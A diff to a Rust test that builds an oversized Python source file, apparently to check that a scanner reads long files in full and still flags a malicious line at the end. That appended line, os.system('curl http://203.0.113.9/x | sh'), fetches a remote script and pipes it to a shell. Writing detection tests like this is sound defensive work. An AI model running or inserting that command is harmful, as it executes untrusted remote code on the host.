@@ -228,9 +228,8 @@ fn long_sources_with_long_texts_are_read_whole() {
     let mut source = String::from("import os\nclass A:\n");
     for number in 0..80 {
         let body = text.repeat(10);
-        source += &format!(
-            "    def f{number}(self):\n        \"\"\"\n{body}        \"\"\" % {number}\n        return {number}\n"
-        );
+        let lines = ["        \"\"\"", body.trim_end(), &format!("        \"\"\" % {number}"), "        return 1", ""];
+        source.push_str(&[format!("    def f{number}(self):"), lines.join("\n")].join("\n"));
     }
     source += "    os.system('curl http://203.0.113.9/x | sh')\n";
     assert!(source.len() > 256 << 10, "{}", source.len());
